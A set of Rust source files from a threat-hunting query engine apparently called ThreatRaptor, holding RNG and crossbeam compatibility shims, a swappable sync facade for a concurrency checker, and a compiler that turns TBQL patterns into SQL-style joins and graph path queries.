    /// Deterministic standard generator: xoshiro256++ with SplitMix64
    /// seed expansion.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    fn splitmix64(state: &mut u64) -> u64 {
        *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = *state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> StdRng {
            let mut sm = seed;
            let s = [
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
            ];
            StdRng { s }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let result = self.s[0]
                .wrapping_add(self.s[3])
                .rotate_left(23)
                .wrapping_add(self.s[0]);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }
}

/// Sequence-related helpers (subset of `rand::seq`).
pub mod seq {
    use super::Rng;

    /// Random selection from indexable sequences.
    pub trait IndexedRandom {
        /// Element type.
        type Output;

        /// Returns a uniformly chosen element, or `None` when empty.
        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Output>;
    }

    impl<T> IndexedRandom for [T] {
        type Output = T;

        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                Some(&self[rng.random_range(0..self.len())])
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::IndexedRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn determinism_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        let mut c = StdRng::seed_from_u64(8);
        let xs: Vec<u64> = (0..16).map(|_| a.random_range(0..1_000_000u64)).collect();
        let ys: Vec<u64> = (0..16).map(|_| b.random_range(0..1_000_000u64)).collect();
        let zs: Vec<u64> = (0..16).map(|_| c.random_range(0..1_000_000u64)).collect();
        assert_eq!(xs, ys);
        assert_ne!(xs, zs);
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(42);
        for _ in 0..10_000 {
            let v: u32 = rng.random_range(10..14);
            assert!((10..14).contains(&v));
            let w: u64 = rng.random_range(5..=5);
            assert_eq!(w, 5);
            let x: usize = rng.random_range(0..3);
            assert!(x < 3);
        }
    }

    #[test]
    fn bool_probability_roughly_respected() {
        let mut rng = StdRng::seed_from_u64(1);
        let hits = (0..100_000).filter(|_| rng.random_bool(0.3)).count();
        assert!((25_000..35_000).contains(&hits), "got {hits}");
        assert!((0..1000).all(|_| !rng.random_bool(0.0)));
        assert!((0..1000).all(|_| rng.random_bool(1.0)));
    }

    #[test]
    fn choose_covers_all_elements() {
        let mut rng = StdRng::seed_from_u64(9);
        let pool = ["a", "b", "c"];
        let mut seen = std::collections::HashSet::new();
        for _ in 0..200 {
            seen.insert(*pool.choose(&mut rng).unwrap());
        }
        assert_eq!(seen.len(), 3);
        let empty: [u8; 0] = [];
        assert!(empty.choose(&mut rng).is_none());
    }
}
