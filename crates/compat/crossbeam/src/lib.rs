//! Offline shim for the subset of `crossbeam` this workspace uses:
//!
//! * `crossbeam::thread::scope` + `Scope::spawn` + `ScopedJoinHandle::join`,
//!   implemented on top of [`std::thread::scope`] (which did not exist when
//!   crossbeam's scoped threads were written, and fully subsumes them);
//! * `crossbeam::channel` — multi-producer **multi-consumer** channels
//!   (`bounded`/`unbounded`, cloneable `Sender`/`Receiver`, blocking and
//!   timed receives), implemented as a `Mutex<VecDeque>` + two condvars.
//!   `std::sync::mpsc` cannot stand in here: its receiver is neither
//!   `Clone` nor `Sync`, and worker pools need many consumers draining
//!   one queue.

/// Scoped threads.
pub mod thread {
    use std::any::Any;

    /// A scope handle; mirrors `crossbeam::thread::Scope`.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    /// A handle to a scoped thread; mirrors `crossbeam::thread::ScopedJoinHandle`.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, T> ScopedJoinHandle<'scope, T> {
        /// Waits for the thread and returns its result, or the panic
        /// payload if it panicked.
        pub fn join(self) -> Result<T, Box<dyn Any + Send + 'static>> {
            self.inner.join()
        }
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a scoped thread. The closure receives the scope (like
        /// crossbeam), allowing nested spawns.
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let inner = self.inner;
            ScopedJoinHandle {
                inner: inner.spawn(move || f(&Scope { inner })),
            }
        }
    }

    /// Creates a scope for spawning threads that may borrow from the
    /// enclosing stack frame. Unlike crossbeam, a child panic propagates
    /// out of [`std::thread::scope`] itself when the handle was not
    /// joined, so the `Err` arm here only reports panics crossbeam would
    /// have collected from unjoined threads — the `Result` wrapper is kept
    /// for call-site compatibility.
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| f(&Scope { inner: s })))
    }
}

/// Multi-producer multi-consumer channels; mirrors `crossbeam::channel`.
pub mod channel {
    use std::collections::VecDeque;
    use std::fmt;
    use std::time::{Duration, Instant};
    use threatraptor_sync::{Arc, Condvar, Mutex, PoisonError};

    /// The sending side disconnected mid-`recv`.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct RecvError;

    impl fmt::Display for RecvError {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("receiving on an empty and disconnected channel")
        }
    }

    impl std::error::Error for RecvError {}

    /// Why a `try_recv` returned nothing.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum TryRecvError {
        /// The channel is currently empty (senders still connected).
        Empty,
        /// The channel is empty and every sender is gone.
        Disconnected,
    }

    /// Why a timed receive returned nothing.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum RecvTimeoutError {
        /// The timeout elapsed with the channel still empty.
        Timeout,
        /// The channel is empty and every sender is gone.
        Disconnected,
    }

    /// The receiving side disconnected mid-`send`; carries the unsent
    /// message back.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct SendError<T>(pub T);

    impl<T> fmt::Display for SendError<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("sending on a disconnected channel")
        }
    }

    impl<T: fmt::Debug> std::error::Error for SendError<T> {}

    /// Why a `try_send` did not enqueue; carries the message back.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum TrySendError<T> {
        /// A bounded channel is at capacity.
        Full(T),
        /// Every receiver is gone.
        Disconnected(T),
    }

    struct Inner<T> {
        queue: VecDeque<T>,
        /// `None` = unbounded.
        cap: Option<usize>,
        senders: usize,
        receivers: usize,
    }

    struct Shared<T> {
        inner: Mutex<Inner<T>>,
        not_empty: Condvar,
        not_full: Condvar,
    }

    impl<T> Shared<T> {
        fn lock(&self) -> threatraptor_sync::MutexGuard<'_, Inner<T>> {
            // Poison recovery: a consumer panicking while holding the
            // lock must not wedge every other worker on the queue.
            self.inner.lock().unwrap_or_else(PoisonError::into_inner)
        }
    }

    /// The sending half; cloneable (multi-producer).
    pub struct Sender<T> {
        shared: Arc<Shared<T>>,
    }

    /// The receiving half; cloneable (multi-consumer), unlike
    /// `std::sync::mpsc`.
    pub struct Receiver<T> {
        shared: Arc<Shared<T>>,
    }

    impl<T> fmt::Debug for Sender<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Sender { .. }")
        }
    }

    impl<T> fmt::Debug for Receiver<T> {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("Receiver { .. }")
        }
    }

    /// A channel with unbounded buffering: `send` never blocks.
    pub fn unbounded<T>() -> (Sender<T>, Receiver<T>) {
        with_cap(None)
    }

    /// A channel holding at most `cap` in-flight messages: `send` blocks
    /// while full (backpressure). Unlike crossbeam, `cap == 0` is not a
    /// rendezvous channel — it is clamped to 1 (this workspace never uses
    /// zero-capacity channels).
    pub fn bounded<T>(cap: usize) -> (Sender<T>, Receiver<T>) {
        with_cap(Some(cap.max(1)))
    }

    fn with_cap<T>(cap: Option<usize>) -> (Sender<T>, Receiver<T>) {
        let shared = Arc::new(Shared {
            inner: Mutex::new(Inner {
                queue: VecDeque::new(),
                cap,
                senders: 1,
                receivers: 1,
            }),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
        });
        (
            Sender {
                shared: Arc::clone(&shared),
            },
            Receiver { shared },
        )
    }

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Sender<T> {
            self.shared.lock().senders += 1;
            Sender {
                shared: Arc::clone(&self.shared),
            }
        }
    }

    impl<T> Drop for Sender<T> {
        fn drop(&mut self) {
            let mut inner = self.shared.lock();
            inner.senders -= 1;
            if inner.senders == 0 {
                // Wake blocked receivers so they observe the disconnect.
                drop(inner);
                self.shared.not_empty.notify_all();
            }
        }
    }

    impl<T> Clone for Receiver<T> {
        fn clone(&self) -> Receiver<T> {
            self.shared.lock().receivers += 1;
            Receiver {
                shared: Arc::clone(&self.shared),
            }
        }
    }

    impl<T> Drop for Receiver<T> {
        fn drop(&mut self) {
            let mut inner = self.shared.lock();
            inner.receivers -= 1;
            if inner.receivers == 0 {
                // Wake blocked senders so they observe the disconnect.
                drop(inner);
                self.shared.not_full.notify_all();
            }
        }
    }

    impl<T> Sender<T> {
        /// Enqueues a message, blocking while a bounded channel is full.
        /// Fails (returning the message) once every receiver is gone.
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            let mut inner = self.shared.lock();
            loop {
                if inner.receivers == 0 {
                    return Err(SendError(value));
                }
                if inner.cap.is_none_or(|cap| inner.queue.len() < cap) {
                    inner.queue.push_back(value);
                    drop(inner);
                    self.shared.not_empty.notify_one();
                    return Ok(());
                }
                inner = self
                    .shared
                    .not_full
                    .wait(inner)
                    .unwrap_or_else(PoisonError::into_inner);
            }
        }

        /// Non-blocking send: fails fast when full or disconnected.
        pub fn try_send(&self, value: T) -> Result<(), TrySendError<T>> {
            let mut inner = self.shared.lock();
            if inner.receivers == 0 {
                return Err(TrySendError::Disconnected(value));
            }
            if inner.cap.is_some_and(|cap| inner.queue.len() >= cap) {
                return Err(TrySendError::Full(value));
            }
            inner.queue.push_back(value);
            drop(inner);
            self.shared.not_empty.notify_one();
            Ok(())
        }
    }

    impl<T> Receiver<T> {
        /// Dequeues a message, blocking while the channel is empty.
        /// Buffered messages are still delivered after every sender is
        /// gone; only an empty disconnected channel errors.
        pub fn recv(&self) -> Result<T, RecvError> {
            let mut inner = self.shared.lock();
            loop {
                if let Some(v) = inner.queue.pop_front() {
                    drop(inner);
                    self.shared.not_full.notify_one();
                    return Ok(v);
                }
                if inner.senders == 0 {
                    return Err(RecvError);
                }
                inner = self
                    .shared
                    .not_empty
                    .wait(inner)
                    .unwrap_or_else(PoisonError::into_inner);
            }
        }

        /// Non-blocking receive.
        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            let mut inner = self.shared.lock();
            if let Some(v) = inner.queue.pop_front() {
                drop(inner);
                self.shared.not_full.notify_one();
                return Ok(v);
            }
            if inner.senders == 0 {
                Err(TryRecvError::Disconnected)
            } else {
                Err(TryRecvError::Empty)
            }
        }

        /// Blocking receive with a deadline.
        pub fn recv_timeout(&self, timeout: Duration) -> Result<T, RecvTimeoutError> {
            let deadline = Instant::now() + timeout;
            let mut inner = self.shared.lock();
            loop {
                if let Some(v) = inner.queue.pop_front() {
                    drop(inner);
                    self.shared.not_full.notify_one();
                    return Ok(v);
                }
                if inner.senders == 0 {
                    return Err(RecvTimeoutError::Disconnected);
                }
                let now = Instant::now();
                if now >= deadline {
                    return Err(RecvTimeoutError::Timeout);
                }
                let (guard, _) = self
                    .shared
                    .not_empty
                    .wait_timeout(inner, deadline - now)
                    .unwrap_or_else(PoisonError::into_inner);
                inner = guard;
            }
        }

        /// Messages currently buffered.
        pub fn len(&self) -> usize {
            self.shared.lock().queue.len()
        }

        /// True when nothing is buffered.
        pub fn is_empty(&self) -> bool {
            self.len() == 0
        }

        /// Blocking iterator: yields until the channel is empty *and*
        /// disconnected.
        pub fn iter(&self) -> Iter<'_, T> {
            Iter { rx: self }
        }

        /// Non-blocking iterator: drains what is buffered right now.
        pub fn try_iter(&self) -> TryIter<'_, T> {
            TryIter { rx: self }
        }
    }

    /// Blocking iterator over received messages.
    pub struct Iter<'a, T> {
        rx: &'a Receiver<T>,
    }

    impl<T> Iterator for Iter<'_, T> {
        type Item = T;
        fn next(&mut self) -> Option<T> {
            self.rx.recv().ok()
        }
    }

    /// Non-blocking iterator over buffered messages.
    pub struct TryIter<'a, T> {
        rx: &'a Receiver<T>,
    }

    impl<T> Iterator for TryIter<'_, T> {
        type Item = T;
        fn next(&mut self) -> Option<T> {
            self.rx.try_recv().ok()
        }
    }

    impl<'a, T> IntoIterator for &'a Receiver<T> {
        type Item = T;
        type IntoIter = Iter<'a, T>;
        fn into_iter(self) -> Iter<'a, T> {
            self.iter()
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn scoped_threads_borrow_and_join() {
        let data = [1u64, 2, 3, 4];
        let total: u64 = crate::thread::scope(|scope| {
            let mid = data.len() / 2;
            let (a, b) = data.split_at(mid);
            let ha = scope.spawn(move |_| a.iter().sum::<u64>());
            let hb = scope.spawn(move |_| b.iter().sum::<u64>());
            ha.join().unwrap() + hb.join().unwrap()
        })
        .unwrap();
        assert_eq!(total, 10);
    }

    #[test]
    fn nested_spawn_through_scope_arg() {
        let n = crate::thread::scope(|scope| {
            scope
                .spawn(|inner| inner.spawn(|_| 21).join().unwrap() * 2)
                .join()
                .unwrap()
        })
        .unwrap();
        assert_eq!(n, 42);
    }

    mod channel {
        use crate::channel::*;
        use std::time::Duration;

        #[test]
        fn unbounded_fifo_roundtrip() {
            let (tx, rx) = unbounded();
            for i in 0..10 {
                tx.send(i).unwrap();
            }
            assert_eq!(rx.len(), 10);
            let got: Vec<i32> = rx.try_iter().collect();
            assert_eq!(got, (0..10).collect::<Vec<_>>());
            assert_eq!(rx.try_recv(), Err(TryRecvError::Empty));
        }

        #[test]
        fn disconnect_drains_buffered_then_errors() {
            let (tx, rx) = unbounded();
            tx.send(1).unwrap();
            tx.send(2).unwrap();
            drop(tx);
            assert_eq!(rx.recv(), Ok(1));
            assert_eq!(rx.recv(), Ok(2));
            assert_eq!(rx.recv(), Err(RecvError));
            assert_eq!(rx.try_recv(), Err(TryRecvError::Disconnected));
        }

        #[test]
        fn send_fails_once_receivers_are_gone() {
            let (tx, rx) = unbounded();
            drop(rx);
            assert_eq!(tx.send(7), Err(SendError(7)));
            assert!(matches!(tx.try_send(7), Err(TrySendError::Disconnected(7))));
        }

        #[test]
        fn bounded_backpressure_blocks_until_drained() {
            let (tx, rx) = bounded(2);
            tx.send(1).unwrap();
            tx.send(2).unwrap();
            assert!(matches!(tx.try_send(3), Err(TrySendError::Full(3))));
            std::thread::scope(|scope| {
                let sender = scope.spawn(|| tx.send(3)); // blocks on full
                std::thread::sleep(Duration::from_millis(20));
                assert_eq!(rx.recv(), Ok(1));
                sender.join().unwrap().unwrap();
            });
            assert_eq!(rx.recv(), Ok(2));
            assert_eq!(rx.recv(), Ok(3));
        }

        #[test]
        fn recv_timeout_times_out_then_succeeds() {
            let (tx, rx) = unbounded();
            assert_eq!(
                rx.recv_timeout(Duration::from_millis(10)),
                Err(RecvTimeoutError::Timeout)
            );
            tx.send(42).unwrap();
            assert_eq!(rx.recv_timeout(Duration::from_millis(10)), Ok(42));
            drop(tx);
            assert_eq!(
                rx.recv_timeout(Duration::from_millis(10)),
                Err(RecvTimeoutError::Disconnected)
            );
        }

        #[test]
        fn multiple_consumers_partition_the_stream() {
            let (tx, rx) = unbounded();
            let n = 200;
            let counts: Vec<usize> = std::thread::scope(|scope| {
                let consumers: Vec<_> = (0..4)
                    .map(|_| {
                        let rx = rx.clone();
                        scope.spawn(move || rx.iter().count())
                    })
                    .collect();
                drop(rx); // scope keeps only the clones
                for i in 0..n {
                    tx.send(i).unwrap();
                }
                drop(tx);
                consumers.into_iter().map(|h| h.join().unwrap()).collect()
            });
            assert_eq!(counts.iter().sum::<usize>(), n);
        }

        #[test]
        fn blocking_recv_wakes_on_send() {
            let (tx, rx) = bounded(1);
            let got = std::thread::scope(|scope| {
                let h = scope.spawn(move || rx.recv());
                std::thread::sleep(Duration::from_millis(10));
                tx.send("hello").unwrap();
                h.join().unwrap()
            });
            assert_eq!(got, Ok("hello"));
        }
    }
}
