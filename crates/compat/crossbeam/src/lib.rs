//! Offline shim for the subset of `crossbeam` this workspace uses:
//! `crossbeam::thread::scope` + `Scope::spawn` + `ScopedJoinHandle::join`,
//! implemented on top of [`std::thread::scope`] (which did not exist when
//! crossbeam's scoped threads were written, and fully subsumes them).

/// Scoped threads.
pub mod thread {
    use std::any::Any;

    /// A scope handle; mirrors `crossbeam::thread::Scope`.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    /// A handle to a scoped thread; mirrors `crossbeam::thread::ScopedJoinHandle`.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, T> ScopedJoinHandle<'scope, T> {
        /// Waits for the thread and returns its result, or the panic
        /// payload if it panicked.
        pub fn join(self) -> Result<T, Box<dyn Any + Send + 'static>> {
            self.inner.join()
        }
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a scoped thread. The closure receives the scope (like
        /// crossbeam), allowing nested spawns.
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let inner = self.inner;
            ScopedJoinHandle {
                inner: inner.spawn(move || f(&Scope { inner })),
            }
        }
    }

    /// Creates a scope for spawning threads that may borrow from the
    /// enclosing stack frame. Unlike crossbeam, a child panic propagates
    /// out of [`std::thread::scope`] itself when the handle was not
    /// joined, so the `Err` arm here only reports panics crossbeam would
    /// have collected from unjoined threads — the `Result` wrapper is kept
    /// for call-site compatibility.
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| f(&Scope { inner: s })))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn scoped_threads_borrow_and_join() {
        let data = [1u64, 2, 3, 4];
        let total: u64 = crate::thread::scope(|scope| {
            let mid = data.len() / 2;
            let (a, b) = data.split_at(mid);
            let ha = scope.spawn(move |_| a.iter().sum::<u64>());
            let hb = scope.spawn(move |_| b.iter().sum::<u64>());
            ha.join().unwrap() + hb.join().unwrap()
        })
        .unwrap();
        assert_eq!(total, 10);
    }

    #[test]
    fn nested_spawn_through_scope_arg() {
        let n = crate::thread::scope(|scope| {
            scope
                .spawn(|inner| inner.spawn(|_| 21).join().unwrap() * 2)
                .join()
                .unwrap()
        })
        .unwrap();
        assert_eq!(n, 42);
    }
}
