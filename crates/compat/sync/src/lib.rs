//! # threatraptor-sync — the swappable sync facade
//!
//! Every production crate imports its locks, condvars, atomics, and
//! thread-spawning through this facade instead of `std::sync` /
//! `std::thread` directly (`threatraptor-lint` rule L005 enforces it).
//! Built normally, everything here is a zero-cost re-export of the std
//! primitive — same types, same codegen. Built with
//! `RUSTFLAGS="--cfg threatraptor_check"`, the lock/condvar/atomic/
//! thread surface swaps to `threatraptor-check`'s instrumented
//! primitives, and the deterministic interleaving checker can drive
//! real production protocols (worker pool, ingest epochs, follow
//! dispatch, plan cache) through exhaustive schedule exploration.
//!
//! Types with no scheduling-visible behaviour worth modelling
//! (`Arc`, `Weak`, `Once`, `OnceLock`, `PoisonError`, `LockResult`,
//! `TryLockError`) come from std in both configurations — code using
//! the facade never needs to know which build it is in.

// --- shared re-exports (identical in both configurations) -----------
pub use std::sync::{Arc, LockResult, Once, OnceLock, PoisonError, TryLockError, Weak};

// --- normal builds: std::sync verbatim ------------------------------
#[cfg(not(threatraptor_check))]
pub use std::sync::{
    Barrier, Condvar, Mutex, MutexGuard, RwLock, RwLockReadGuard, RwLockWriteGuard,
    WaitTimeoutResult,
};

#[cfg(not(threatraptor_check))]
pub mod atomic {
    pub use std::sync::atomic::*;
}

/// Thread spawning routed through the facade so model-spawned threads
/// register with the checker's scheduler. `sleep` inside a model is a
/// scheduling point, not a real delay.
#[cfg(not(threatraptor_check))]
pub mod thread {
    pub use std::thread::{
        available_parallelism, current, sleep, spawn, yield_now, Builder, JoinHandle, Thread,
    };
}

// --- checker builds: instrumented primitives -------------------------
#[cfg(threatraptor_check)]
pub use std::sync::Barrier;

#[cfg(threatraptor_check)]
pub use threatraptor_check::sync::{
    Condvar, Mutex, MutexGuard, RwLock, RwLockReadGuard, RwLockWriteGuard, WaitTimeoutResult,
};

#[cfg(threatraptor_check)]
pub mod atomic {
    pub use threatraptor_check::sync::atomic::{
        fence, AtomicBool, AtomicI32, AtomicI64, AtomicU32, AtomicU64, AtomicU8, AtomicUsize,
        Ordering,
    };
    // Atomics the checker does not instrument fall back to std; no
    // production code shares them across model threads.
    pub use std::sync::atomic::{AtomicI16, AtomicI8, AtomicIsize, AtomicU16};
}

#[cfg(threatraptor_check)]
pub mod thread {
    pub use std::thread::{available_parallelism, current, Thread};
    pub use threatraptor_check::thread::{sleep, spawn, yield_now, Builder, JoinHandle};
}
