//! Pattern compilation: TBQL → relational plans and graph path queries.
//!
//! Event patterns become a three-way join (subject entity table ⋈ event
//! table ⋈ object entity table) — "a SQL data query which joins entity
//! tables with event table". Path patterns become graph
//! [`PathQuery`]s — "since it is difficult to perform graph pattern search
//! using SQL, ThreatRaptor compiles it into a Cypher data query".

use crate::error::EngineError;
use std::collections::HashMap;
use threatraptor_storage::graphdb::PathQuery;
use threatraptor_storage::relational::{
    CmpOp as SqlCmp, JoinCond, Predicate, SqlSelect, TableRef, Value,
};
use threatraptor_storage::store::{self, AuditStore};
use threatraptor_tbql::analyze::AnalyzedQuery;
use threatraptor_tbql::ast::{CmpOp, EntityType, Expr, Lit, Pattern, TimeWindow};
use threatraptor_tbql::lint::{lint, LintReport};

/// A compiled pattern ready for execution.
#[derive(Debug, Clone)]
pub struct CompiledPattern {
    /// Pattern id (`evt1` …).
    pub id: String,
    /// Index in declaration order.
    pub decl_index: usize,
    /// Subject variable.
    pub subject_var: String,
    /// Object variable.
    pub object_var: String,
    /// Object entity table name.
    pub object_table: &'static str,
    /// Execution shape.
    pub shape: CompiledShape,
    /// Optional time window.
    pub window: Option<TimeWindow>,
    /// DBM-tightened feasible time range, present only when strictly
    /// tighter than `window`: any row in a complete match satisfies
    /// `start ≥ lo && end ≤ hi`, so scans clamp to it ([`ShardedEngine`]
    /// counts rows it excludes as pruned).
    ///
    /// [`ShardedEngine`]: crate::ShardedEngine
    pub bounds: Option<TimeWindow>,
    /// Pruning score (higher executes earlier).
    pub score: i64,
}

/// Execution shape of a compiled pattern.
#[derive(Debug, Clone)]
pub enum CompiledShape {
    /// Single event: operation alternatives.
    Event {
        /// Operation names (`read` …).
        ops: Vec<String>,
    },
    /// Variable-length path.
    Path {
        /// Minimum hops.
        min_hops: u32,
        /// Maximum hops.
        max_hops: u32,
        /// Final-hop operation.
        last_op: String,
    },
}

/// A fully compiled query.
#[derive(Debug, Clone)]
pub struct CompiledQuery {
    /// Patterns in declaration order.
    pub patterns: Vec<CompiledPattern>,
    /// Per-variable storage predicate (merged across mentions).
    pub var_predicates: HashMap<String, Predicate>,
    /// Per-variable entity table.
    pub var_tables: HashMap<String, &'static str>,
    /// Temporal `before` pairs (pattern ids).
    pub before: Vec<(String, String)>,
    /// Return projection `(var, attr)`.
    pub returns: Vec<(String, String)>,
    /// Distinct projection.
    pub distinct: bool,
}

/// Converts a TBQL filter expression to a storage predicate.
pub fn expr_to_predicate(expr: &Expr) -> Predicate {
    match expr {
        Expr::Cmp { attr, op, value } => {
            let v = match value {
                Lit::Str(s) => Value::str(s.clone()),
                Lit::Int(i) => Value::int(*i),
            };
            match op {
                CmpOp::Like => match value {
                    Lit::Str(s) => Predicate::like(attr.clone(), s.clone()),
                    Lit::Int(i) => Predicate::like(attr.clone(), i.to_string()),
                },
                CmpOp::Eq => Predicate::Cmp(attr.clone(), SqlCmp::Eq, v),
                CmpOp::Ne => Predicate::Cmp(attr.clone(), SqlCmp::Ne, v),
                CmpOp::Lt => Predicate::Cmp(attr.clone(), SqlCmp::Lt, v),
                CmpOp::Le => Predicate::Cmp(attr.clone(), SqlCmp::Le, v),
                CmpOp::Gt => Predicate::Cmp(attr.clone(), SqlCmp::Gt, v),
                CmpOp::Ge => Predicate::Cmp(attr.clone(), SqlCmp::Ge, v),
            }
        }
        Expr::And(legs) => Predicate::And(legs.iter().map(expr_to_predicate).collect()),
        Expr::Or(legs) => Predicate::Or(legs.iter().map(expr_to_predicate).collect()),
    }
}

/// Entity table for a TBQL entity type.
pub fn table_for(ty: EntityType) -> &'static str {
    match ty {
        EntityType::Proc => store::TABLE_PROCESS,
        EntityType::File => store::TABLE_FILE,
        EntityType::Ip => store::TABLE_NETWORK,
    }
}

/// Compiles an analyzed query. Runs the lint pass first: error-level
/// diagnostics (temporal infeasibility, contradictory filters) reject
/// the query as [`EngineError::Infeasible`] before any store is touched.
pub fn compile(aq: &AnalyzedQuery) -> Result<CompiledQuery, EngineError> {
    compile_with_lint(aq).map(|(cq, _)| cq)
}

/// [`compile`] variant that also returns the lint report (warnings plus
/// the temporal analysis), for callers that cache or display it.
pub fn compile_with_lint(aq: &AnalyzedQuery) -> Result<(CompiledQuery, LintReport), EngineError> {
    let report = lint(aq);
    if report.has_errors() {
        return Err(EngineError::Infeasible(report.errors().cloned().collect()));
    }
    let cq = compile_feasible(aq, &report)?;
    Ok((cq, report))
}

/// Builds the plan for a query the lint pass accepted.
fn compile_feasible(aq: &AnalyzedQuery, report: &LintReport) -> Result<CompiledQuery, EngineError> {
    let mut var_predicates = HashMap::new();
    let mut var_tables = HashMap::new();
    for (var, info) in &aq.entities {
        let pred = Predicate::and(info.filters.iter().map(expr_to_predicate).collect());
        var_predicates.insert(var.clone(), pred);
        var_tables.insert(var.clone(), table_for(info.ty));
    }

    let mut patterns = Vec::with_capacity(aq.query.patterns.len());
    for (i, pat) in aq.query.patterns.iter().enumerate() {
        let id = aq.pattern_ids[i].clone();
        let subject_var = pat.subject().id.clone();
        let object_var = pat.object().id.clone();
        let object_table = var_tables
            .get(&object_var)
            .copied()
            .ok_or_else(|| EngineError::Execution(format!("untyped variable `{object_var}`")))?;
        let (shape, window, max_len) = match pat {
            Pattern::Event(e) => (CompiledShape::Event { ops: e.ops.clone() }, e.window, 1u32),
            Pattern::Path(p) => {
                let min = p.min_hops.unwrap_or(1);
                let max = p.max_hops.unwrap_or(min.max(4));
                (
                    CompiledShape::Path {
                        min_hops: min,
                        max_hops: max,
                        last_op: p.last_op.clone(),
                    },
                    p.window,
                    max,
                )
            }
        };
        let score = crate::score::pruning_score(
            &aq.entities[&subject_var],
            &aq.entities[&object_var],
            window,
            max_len,
        );
        // Keep the DBM bounds only when strictly tighter than the
        // pattern's own window (which the scan already enforces).
        let bounds = report.temporal.bounds.get(i).and_then(|b| {
            let (wlo, whi) = window.map(|w| (w.lo, w.hi)).unwrap_or((0, u64::MAX));
            (b.lo > wlo || b.hi < whi).then_some(TimeWindow { lo: b.lo, hi: b.hi })
        });
        patterns.push(CompiledPattern {
            id,
            decl_index: i,
            subject_var,
            object_var,
            object_table,
            shape,
            window,
            bounds,
            score,
        });
    }

    Ok(CompiledQuery {
        patterns,
        var_predicates,
        var_tables,
        before: aq.before.clone(),
        returns: aq.returns.clone(),
        distinct: aq.distinct,
    })
}

impl CompiledQuery {
    /// Builds the relational plan for an event pattern, with extra
    /// propagated predicates per variable (the scheduler's filter
    /// pushdown).
    pub fn event_plan(
        &self,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> SqlSelect {
        let CompiledShape::Event { ops } = &pat.shape else {
            panic!("event_plan on a path pattern");
        };
        let mut event_pred = vec![op_predicate(ops)];
        if let Some(w) = pat.window {
            event_pred.push(Predicate::Cmp(
                "start".into(),
                SqlCmp::Ge,
                Value::from(w.lo),
            ));
            event_pred.push(Predicate::Cmp("end".into(), SqlCmp::Le, Value::from(w.hi)));
        }
        let var_pred = |var: &str| {
            let mut legs = vec![self.var_predicates[var].clone()];
            if let Some(p) = extra.get(var) {
                legs.push(p.clone());
            }
            Predicate::and(legs)
        };
        SqlSelect {
            from: vec![
                TableRef::new(self.var_tables[&pat.subject_var], "s"),
                TableRef::new(store::TABLE_EVENT, "e"),
                TableRef::new(pat.object_table, "o"),
            ],
            joins: vec![
                JoinCond::new("s", "id", "e", "subject"),
                JoinCond::new("o", "id", "e", "object"),
            ],
            filters: vec![
                ("s".into(), var_pred(&pat.subject_var)),
                ("e".into(), Predicate::and(event_pred)),
